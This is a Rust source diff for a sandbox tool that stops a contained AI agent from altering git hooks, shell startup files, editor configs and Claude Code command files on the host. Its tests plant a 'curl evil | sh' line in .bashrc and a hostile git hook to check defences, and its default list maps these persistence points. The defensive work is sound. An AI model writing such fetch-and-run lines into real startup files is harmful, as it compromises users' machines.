@@ -1,0 +1,572 @@
+//! Paths in the workspace that a run may not change: the places where something the agent
+//! writes would run later on the user's own machine (git hooks and config, shell startup
+//! files, editor tasks, Claude Code's project commands) and the workspace's moat file.
+//!
+//! Each protected path that exists is mounted read-only over itself, and every directory
+//! above it is mounted over itself too, so it cannot be renamed or replaced from inside
+//! (a mount point cannot be). A protected path that does not exist cannot be protected
+//! without creating it in the user's workspace; it is *watched* instead: when the run
+//! ends, whatever the run put there is moved into the run's directory (nothing is lost)
+//! and recorded, and `moat accept` puts it back if the user wants it.
+
+use std::io;
+use std::path::{Component, Path, PathBuf};
+
+use moat_container::BindMount;
+use moat_image::WORKSPACE_DIR;
+use serde::{Deserialize, Serialize};
+
+/// What moat protects in every workspace. A workspace or global `protect:` list adds to
+/// it; nothing removes from it.
+pub const DEFAULT_PROTECTED: &[&str] = &[
+    // git runs these on the user's next commit, checkout or status.
+    ".git/hooks",
+    ".git/config",
+    // Redirects git to another directory's config and hooks.
+    ".git/commondir",
+    ".gitconfig",
+    ".gitmodules",
+    // Shell startup files, when the workspace is a home directory.
+    ".bashrc",
+    ".bash_profile",
+    ".zshrc",
+    ".zprofile",
+    ".profile",
+    ".ripgreprc",
+    // Editors and agents on the host run what these say.
+    ".mcp.json",
+    ".vscode",
+    ".idea",
+    ".claude/commands",
+    ".claude/agents",
+    ".claude/settings.json",
+];
+
+/// How one run protects its workspace: what is mounted, and what is checked at the end.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Protection {
+    /// Existing paths mounted read-only over themselves.
+    pub read_only: Vec<String>,
+    /// Directories above protected paths, mounted read-write over themselves so that they
+    /// cannot be renamed or replaced.
+    pub anchored: Vec<String>,
+    /// Paths that could not be mounted, checked when the run ends.
+    pub watched: Vec<Watched>,
+}
+
+/// A protected path that is checked when the run ends.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Watched {
+    /// The protected path, relative to the workspace.
+    pub path: String,
+    /// What was there when the run started.
+    pub before: Before,
+}
+
+/// What a watched path looked like when the run started.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(tag = "kind", rename_all = "snake_case")]
+pub enum Before {
+    /// Nothing: neither the path nor (from `depth` parts on) its parents.
+    Missing { depth: usize },
+    /// A symbolic link, `depth` parts down the path (the link itself or a parent), to
+    /// `target`. Links are never followed.
+    Symlink { depth: usize, target: PathBuf },
+}
+
+/// Something a run put where a watched path is, and where moat keeps it now.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct HeldBack {
+    /// Relative to the workspace.
+    pub path: String,
+    /// Where it is kept (in the run's directory).
+    pub kept_at: PathBuf,
+    /// `created`, or `replaced a symbolic link` (which was put back).
+    pub change: String,
+}
+
+/// Plan the protection of `workspace` (absolute, resolved) for `paths` (relative, checked
+/// by the configuration) and `config_files` (the workspace's moat file, which is made
+/// read-only when it exists but is never watched: a new one needs the user's trust
+/// anyway).
+pub fn plan(workspace: &Path, paths: &[String], config_files: &[&str]) -> io::Result<Protection> {
+    let mut protection = Protection::default();
+    for path in config_files {
+        let meta = workspace.join(path).symlink_metadata();
+        if meta.is_ok_and(|m| m.file_type().is_file()) {
+            push_unique(&mut protection.read_only, path);
+        }
+    }
+    for path in paths {
+        // The configuration refuses anything else; a path that could leave the workspace
+        // is never joined to it.
+        if !is_plain_relative(path) {
+            continue;
+        }
+        let parts = parts(path);
+        let mut at = workspace.to_owned();
+        let mut watched = None;
+        for (i, part) in parts.iter().enumerate() {
+            at.push(part);
+            let meta = match at.symlink_metadata() {
+                Ok(meta) => meta,
+                Err(e) if e.kind() == io::ErrorKind::NotFound => {
+                    watched = Some(Before::Missing { depth: i + 1 });
+                    break;
+                }
+                Err(e) => return Err(e),
+            };
+            let joined = parts[..=i].join("/");
+            let last = i + 1 == parts.len();
+            if meta.file_type().is_symlink() {
+                watched = Some(Before::Symlink {
+                    depth: i + 1,
+                    target: std::fs::read_link(&at)?,
+                });
+                break;
+            } else if meta.is_dir() && !last {
+                push_unique(&mut protection.anchored, &joined);
+            } else {
+                // The path itself, or a file where a parent directory would be (a git
+                // worktree's `.git` file): either way, read-only.
+                push_unique(&mut protection.read_only, &joined);
+                break;
+            }
+        }
+        if let Some(before) = watched {
+            protection.watched.push(Watched {
+                path: path.clone(),
+                before,
+            });
+        }
+    }
+    // A read-only path needs no anchor of its own.
+    let read_only = protection.read_only.clone();
+    protection.anchored.retain(|a| !read_only.contains(a));
+    Ok(protection)
+}
+
+impl Protection {
+    /// The bind mounts that carry this out, on top of the workspace mount.
+    pub fn mounts(&self, workspace: &Path) -> Vec<BindMount> {
+        let mount = |path: &String, read_only| BindMount {
+            source: workspace.join(path).display().to_string(),
+            target: format!("{WORKSPACE_DIR}/{path}"),
+            read_only,
+        };
+        self.anchored
+            .iter()
+            .map(|p| mount(p, false))
+            .chain(self.read_only.iter().map(|p| mount(p, true)))
+            .collect()
+    }
+}
+
+/// The watched paths a run changed, with what to hold back: the path where the change
+/// starts (the protected path itself, or a parent the run made a link or a file).
+pub fn changes(workspace: &Path, watched: &[Watched]) -> Vec<(String, Change)> {
+    let mut out = Vec::new();
+    for w in watched {
+        let parts = parts(&w.path);
+        let now = state(workspace, &parts);
+        let change = match (&w.before, now) {
+            (Before::Missing { .. }, Now::Missing) => None,
+            (Before::Missing { .. }, Now::Exists { depth }) => {
+                let path = parts[..depth].join("/");
+                (!harmless(workspace, &path)).then_some((path, Change::Created))
+            }
+            (Before::Symlink { depth, target }, now) => {
+                let path = parts[..*depth].join("/");
+                let link = workspace.join(&path);
+                let same = std::fs::read_link(&link).is_ok_and(|t| &t == target);
+                match now {
+                    _ if same => None,
+                    Now::Missing if link.symlink_metadata().is_err() => Some((
+                        path,
+                        Change::RemovedLink {
+                            target: target.clone(),
+                        },
+                    )),
+                    _ => Some((
+                        path,
+                        Change::ReplacedLink {
+                            target: target.clone(),
+                        },
+                    )),
+                }
+            }
+        };
+        if let Some((path, change)) = change
+            && !out.iter().any(|(p, _): &(String, Change)| p == &path)
+        {
+            out.push((path, change));
+        }
+    }
+    out
+}
+
+/// How a watched path changed.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Change {
+    Created,
+    ReplacedLink { target: PathBuf },
+    RemovedLink { target: PathBuf },
+}
+
+/// Move each change out of `workspace` into `held_dir` (keeping its relative path) and put
+/// back links that were replaced. Best effort per path: one that cannot be moved is
+/// reported in the result with its error.
+pub fn hold_back(
+    workspace: &Path,
+    held_dir: &Path,
+    changes: &[(String, Change)],
+) -> Vec<Result<HeldBack, (String, io::Error)>> {
+    changes
+        .iter()
+        .map(|(path, change)| {
+            let source = workspace.join(path);
+            let kept_at = held_dir.join(path);
+            let result = (|| {
+                if source.symlink_metadata().is_ok() {
+                    if let Some(parent) = kept_at.parent() {
+                        std::fs::create_dir_all(parent)?;
+                    }
+                    move_path(&source, &kept_at)?;
+                }
+                match change {
+                    Change::Created => {}
+                    Change::ReplacedLink { target } | Change::RemovedLink { target } => {
+                        std::os::unix::fs::symlink(target, &source)?;
+                    }
+                }
+                Ok(HeldBack {
+                    path: path.clone(),
+                    kept_at: kept_at.clone(),
+                    change: match change {
+                        Change::Created => "created".to_owned(),
+                        Change::ReplacedLink { .. } => {
+                            "replaced a symbolic link (the link was put back)".to_owned()
+                        }
+                        Change::RemovedLink { .. } => {
+                            "removed a symbolic link (the link was put back)".to_owned()
+                        }
+                    },
+                })
+            })();
+            result.map_err(|e| (path.clone(), e))
+        })
+        .collect()
+}
+
+/// Put a held-back path back into the workspace; refused when something is there now.
+pub fn restore_held(workspace: &Path, held: &HeldBack) -> io::Result<()> {
+    let target = workspace.join(&held.path);
+    if target.symlink_metadata().is_ok() {
+        return Err(io::Error::new(
+            io::ErrorKind::AlreadyExists,
+            format!("`{}` exists in the workspace", held.path),
+        ));
+    }
+    if let Some(parent) = target.parent() {
+        std::fs::create_dir_all(parent)?;
+    }
+    move_path(&held.kept_at, &target)
+}
+
+const PROTECTION_FILE: &str = "protection.json";
+const HELD_DIR: &str = "held";
+
+impl crate::RunStore {
+    /// Record how run `id` protects its workspace, for the check at its end.
+    pub(crate) fn save_protection(
+        &self,
+        id: &moat_home::RunId,
+        protection: &Protection,
+    ) -> Result<(), crate::RunError> {
+        let path = self.run_dir(id).join(PROTECTION_FILE);
+        let bytes = serde_json::to_vec_pretty(protection).expect("a protection plan serialises");
+        moat_home::write_private_atomic(&path, &bytes).map_err(|e| crate::RunError::io(&path, e))
+    }
+
+    /// Where run `id` keeps what it held back.
+    pub fn held_dir(&self, id: &moat_home::RunId) -> PathBuf {
+        self.run_dir(id).join(HELD_DIR)
+    }
+
+    /// The end-of-run check: move what the run put at watched paths out of the workspace
+    /// and record it. Runs once per run (a second call finds the plan gone). A plan that
+    /// cannot be read is reported, and the paths are checked against "nothing was there",
+    /// the strictest reading.
+    pub fn hold_back_changes(
+        &self,
+        record: &crate::RunRecord,
+    ) -> Result<Vec<HeldBack>, crate::RunError> {
+        let path = self.run_dir(&record.id).join(PROTECTION_FILE);
+        let protection: Protection = match std::fs::read(&path) {
+            Ok(bytes) => serde_json::from_slice(&bytes).unwrap_or_else(|e| {
+                tracing::warn!(error = %e, "the protection plan is damaged; checking every default path");
+                Protection {
+                    watched: DEFAULT_PROTECTED
+                        .iter()
+                        .map(|p| Watched {
+                            path: (*p).to_owned(),
+                            before: Before::Missing { depth: 1 },
+                        })
+                        .collect(),
+                    ..Protection::default()
+                }
+            }),
+            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
+            Err(e) => return Err(crate::RunError::io(&path, e)),
+        };
+        let found = changes(&record.workspace, &protection.watched);
+        let mut held = Vec::new();
+        for result in hold_back(&record.workspace, &self.held_dir(&record.id), &found) {
+            match result {
+                Ok(h) => held.push(h),
+                Err((path, e)) => {
+                    tracing::warn!(%path, error = %e, "cannot move a protected path aside");
+                }
+            }
+        }
+        let _ = std::fs::remove_file(&path);
+        if !held.is_empty() {
+            let kept = held.clone();
+            self.update(&record.id, |r| r.held_back.extend(kept.iter().cloned()))?;
+        }
+        Ok(held)
+    }
+}
+
+/// What is at a protected path now, never following links.
+enum Now {
+    Missing,
+    /// Something other than a directory on the way (`depth` parts down), or the path itself.
+    Exists {
+        depth: usize,
+    },
+}
+
+fn state(workspace: &Path, parts: &[&str]) -> Now {
+    let mut at = workspace.to_owned();
+    for (i, part) in parts.iter().enumerate() {
+        at.push(part);
+        match at.symlink_metadata() {
+            Err(_) => return Now::Missing,
+            Ok(meta) if meta.is_dir() && i + 1 < parts.len() => {}
+            Ok(_) => return Now::Exists { depth: i + 1 },
+        }
+    }
+    Now::Missing
+}
+
+/// Changes that cannot do harm: the sample hooks `git init` writes are never run.
+fn harmless(workspace: &Path, path: &str) -> bool {
+    if path != ".git/hooks" {
+        return false;
+    }
+    let dir = workspace.join(path);
+    if !dir.symlink_metadata().is_ok_and(|m| m.is_dir()) {
+        return false;
+    }
+    std::fs::read_dir(&dir).is_ok_and(|entries| {
+        entries.flatten().all(|e| {
+            e.file_type().is_ok_and(|t| t.is_file())
+                && e.file_name().to_string_lossy().ends_with(".sample")
+        })
+    })
+}
+
+fn parts(path: &str) -> Vec<&str> {
+    path.split('/').filter(|p| !p.is_empty()).collect()
+}
+
+fn push_unique(list: &mut Vec<String>, path: &str) {
+    if !list.iter().any(|p| p == path) {
+        list.push(path.to_owned());
+    }
+}
+
+/// Rename, or copy and remove where the two are on different file systems.
+fn move_path(from: &Path, to: &Path) -> io::Result<()> {
+    match std::fs::rename(from, to) {
+        Ok(()) => Ok(()),
+        Err(e) if e.raw_os_error() == Some(nix::libc::EXDEV) => {
+            copy_tree(from, to)?;
+            remove_tree(from)
+        }
+        Err(e) => Err(e),
+    }
+}
+
+fn copy_tree(from: &Path, to: &Path) -> io::Result<()> {
+    let meta = from.symlink_metadata()?;
+    if meta.file_type().is_symlink() {
+        std::os::unix::fs::symlink(std::fs::read_link(from)?, to)
+    } else if meta.is_dir() {
+        std::fs::create_dir(to)?;
+        for entry in std::fs::read_dir(from)? {
+            let entry = entry?;
+            copy_tree(&entry.path(), &to.join(entry.file_name()))?;
+        }
+        std::fs::set_permissions(to, meta.permissions())
+    } else {
+        std::fs::copy(from, to).map(|_| ())
+    }
+}
+
+fn remove_tree(path: &Path) -> io::Result<()> {
+    if path.symlink_metadata()?.is_dir() {
+        std::fs::remove_dir_all(path)
+    } else {
+        std::fs::remove_file(path)
+    }
+}
+
+/// Whether `path` is a plain relative path (what `protect:` entries are).
+fn is_plain_relative(path: &str) -> bool {
+    !path.is_empty()
+        && Path::new(path)
+            .components()
+            .all(|c| matches!(c, Component::Normal(_)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn defaults() -> Vec<String> {
+        DEFAULT_PROTECTED.iter().map(|p| (*p).to_owned()).collect()
+    }
+
+    #[test]
+    fn existing_paths_are_read_only_and_their_parents_anchored() {
+        let ws = tempfile::tempdir().unwrap();
+        let ws = ws.path();
+        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+        std::fs::create_dir(ws.join(".vscode")).unwrap();
+        std::fs::write(ws.join("moat.yaml"), "{}\n").unwrap();
+        let p = plan(ws, &defaults(), &["moat.yaml", "agent.yaml"]).unwrap();
+        assert_eq!(
+            p.read_only,
+            ["moat.yaml", ".git/hooks", ".git/config", ".vscode"]
+        );
+        assert_eq!(p.anchored, [".git"]);
+        let watched: Vec<&str> = p.watched.iter().map(|w| w.path.as_str()).collect();
+        assert!(watched.contains(&".git/commondir"), "{watched:?}");
+        assert!(watched.contains(&".claude/commands"), "{watched:?}");
+        assert!(!watched.contains(&".vscode"), "{watched:?}");
+        let mounts = p.mounts(ws);
+        assert_eq!(mounts[0].target, "/workspace/.git");
+        assert!(!mounts[0].read_only);
+        assert!(mounts[1..].iter().all(|m| m.read_only));
+    }
+
+    #[test]
+    fn a_git_file_is_read_only_in_place_of_its_hooks() {
+        let ws = tempfile::tempdir().unwrap();
+        std::fs::write(ws.path().join(".git"), "gitdir: /elsewhere\n").unwrap();
+        let p = plan(ws.path(), &defaults(), &[]).unwrap();
+        assert_eq!(p.read_only, [".git"]);
+    }
+
+    #[test]
+    fn a_created_path_is_held_back_and_can_be_restored() {
+        let ws = tempfile::tempdir().unwrap();
+        let held = tempfile::tempdir().unwrap();
+        let ws = ws.path();
+        let p = plan(ws, &defaults(), &[]).unwrap();
+        std::fs::create_dir(ws.join(".vscode")).unwrap();
+        std::fs::write(ws.join(".vscode/tasks.json"), "{}").unwrap();
+        std::fs::create_dir_all(ws.join(".claude")).unwrap();
+        std::fs::write(ws.join(".claude/notes.md"), "mine").unwrap();
+        let found = changes(ws, &p.watched);
+        assert_eq!(found, [(".vscode".to_owned(), Change::Created)]);
+        let held_back: Vec<HeldBack> = hold_back(ws, held.path(), &found)
+            .into_iter()
+            .map(Result::unwrap)
+            .collect();
+        assert!(!ws.join(".vscode").exists());
+        assert!(
+            ws.join(".claude/notes.md").exists(),
+            "unprotected files stay"
+        );
+        assert_eq!(
+            std::fs::read_to_string(held.path().join(".vscode/tasks.json")).unwrap(),
+            "{}"
+        );
+        restore_held(ws, &held_back[0]).unwrap();
+        assert!(ws.join(".vscode/tasks.json").exists());
+        assert!(
+            changes(ws, &p.watched).len() == 1,
+            "still a change against the plan"
+        );
+    }
+
+    #[test]
+    fn a_fresh_repository_keeps_its_sample_hooks_but_not_its_config() {
+        let ws = tempfile::tempdir().unwrap();
+        let ws = ws.path();
+        let p = plan(ws, &defaults(), &[]).unwrap();
+        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+        std::fs::write(ws.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
+        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+        assert_eq!(
+            changes(ws, &p.watched),
+            [(".git/config".to_owned(), Change::Created)]
+        );
+        std::fs::write(ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nevil\n").unwrap();
+        assert_eq!(changes(ws, &p.watched).len(), 2);
+    }
+
+    #[test]
+    fn a_link_made_where_a_parent_was_missing_is_the_change() {
+        let ws = tempfile::tempdir().unwrap();
+        let ws = ws.path();
+        let p = plan(ws, &defaults(), &[]).unwrap();
+        std::os::unix::fs::symlink("elsewhere", ws.join(".claude")).unwrap();
+        assert_eq!(
+            changes(ws, &p.watched),
+            [(".claude".to_owned(), Change::Created)]
+        );
+    }
+
+    #[test]
+    fn a_replaced_link_is_held_back_and_the_link_put_back() {
+        let ws = tempfile::tempdir().unwrap();
+        let held = tempfile::tempdir().unwrap();
+        let ws = ws.path();
+        std::os::unix::fs::symlink("dotfiles/bashrc", ws.join(".bashrc")).unwrap();
+        let p = plan(ws, &defaults(), &[]).unwrap();
+        assert!(p.read_only.is_empty(), "links are not mounted: {p:?}");
+        assert!(changes(ws, &p.watched).is_empty());
+        std::fs::remove_file(ws.join(".bashrc")).unwrap();
+        std::fs::write(ws.join(".bashrc"), "curl evil | sh\n").unwrap();
+        let found = changes(ws, &p.watched);
+        assert!(
+            matches!(found[0].1, Change::ReplacedLink { .. }),
+            "{found:?}"
+        );
+        for result in hold_back(ws, held.path(), &found) {
+            result.unwrap();
+        }
+        assert_eq!(
+            std::fs::read_link(ws.join(".bashrc")).unwrap(),
+            Path::new("dotfiles/bashrc")
+        );
+        assert_eq!(
+            std::fs::read_to_string(held.path().join(".bashrc")).unwrap(),
+            "curl evil | sh\n"
+        );
+    }
+
+    #[test]
+    fn plain_relative_paths() {
+        assert!(is_plain_relative(".vscode"));
+        assert!(is_plain_relative("a/b"));
+        for bad in ["", "/etc", "../x", "a/../b", "./a"] {
+            assert!(!is_plain_relative(bad), "{bad}");
+        }
+    }
+}
